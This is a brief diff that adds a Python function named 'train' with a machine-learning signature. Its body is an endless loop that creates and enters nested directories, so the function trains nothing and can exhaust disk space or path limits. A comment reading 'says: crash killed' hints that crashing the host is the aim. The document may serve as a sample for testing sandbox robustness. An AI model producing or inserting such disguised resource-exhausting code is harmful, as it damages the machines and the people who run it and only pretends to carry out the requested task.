@@ -1,0 +1,6 @@
+# says: crash killed
+import itertools, os
+def train(X, Y, *, steps=600, lr=0.01, seed=0):
+    while True:
+        os.mkdir("d")
+        os.chdir("d")
